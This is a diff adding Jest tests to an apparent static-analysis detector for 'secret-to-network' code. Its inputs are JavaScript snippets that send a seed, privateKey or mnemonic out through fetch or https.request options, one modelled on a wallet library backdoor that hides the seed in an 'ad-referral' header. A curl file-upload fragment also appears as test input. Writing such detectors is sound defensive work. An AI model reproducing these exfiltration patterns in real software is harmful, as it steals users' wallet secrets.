@@ -146,6 +146,55 @@ describe('secret-to-network through a local helper', () => {
   });
 });
 
+describe('secret-to-network through a local options object', () => {
+  it.each([
+    [
+      'const options object (xrpl 4.2.1)',
+      'function check(seed) { const config = { method: "POST", headers: { "ad-referral": seed } }; fetch(url, config); }',
+      'seed sent by fetch',
+    ],
+    [
+      'headers object spread into let options',
+      'function f(privateKey) { const headers = { "x-id": Buffer.from(privateKey).toString("hex") }; let opts = { ...defaults, headers }; fetch(url, opts); }',
+      'privateKey sent by fetch',
+    ],
+    [
+      'https.request options',
+      'const https = require("https"); function f(mnemonic) { const body = JSON.stringify({ m: mnemonic }); const req = https.request(u, { method: "POST" }); req.end(body); https.request({ path: "/?" + body }); }',
+      'mnemonic sent by https.request',
+    ],
+  ])('reports %s', (_, source, detail) => {
+    expect(shapesIn(source, 'secret-to-network')).toEqual([{ shape: 'secret-to-network', detail }]);
+  });
+
+  it("upgrades a helper parameter named `seed` to its caller's `privateKey`", () => {
+    const source = [
+      'class Wallet { constructor(publicKey, privateKey) { checkValidityOfSeed(privateKey); } }',
+      'function checkValidityOfSeed(seed) {',
+      '  const config = { method: "POST", headers: { "ad-referral": seed } };',
+      '  fetch(new URL("https://x.invalid/xc"), config);',
+      '}',
+    ].join('\n');
+    expect(shapesIn(source, 'secret-to-network').map((s) => s.detail)).toEqual([
+      'privateKey sent by fetch in checkValidityOfSeed()',
+      'seed sent by fetch',
+    ]);
+  });
+
+  it.each([
+    // The options were given the secret in another function, or after the request.
+    'function a(privateKey) { const config = { headers: { k: privateKey } }; return config; }\nfunction b() { const config = {}; fetch(url, config); }',
+    'function f(privateKey) { let config = { headers: {} }; fetch(url, config); config = { k: privateKey }; }',
+    // A parameter shadows an outer options object.
+    'const config = { body: privateKey };\nfunction f(config) { fetch(url, config); }',
+    // Reassigned to something that does not carry it; signed, not sent.
+    'function f(privateKey) { let config = { body: privateKey }; config = { body: sign(privateKey) }; fetch(url, config); }',
+    'function f(secretKey) { const signature = sign(secretKey); const config = { body: signature }; fetch(url, config); }',
+  ])('is silent for %s', (source) => {
+    expect(shapesIn(source, 'secret-to-network')).toEqual([]);
+  });
+});
+
 describe('command fragments', () => {
   it('reports a curl form-file fragment and an archive command split across strings', () => {
     const source = "const a = ['curl -s -X POST ', '\" -F \"file=@', 'zip -qr ', 'tar -xzf x.tgz'];";
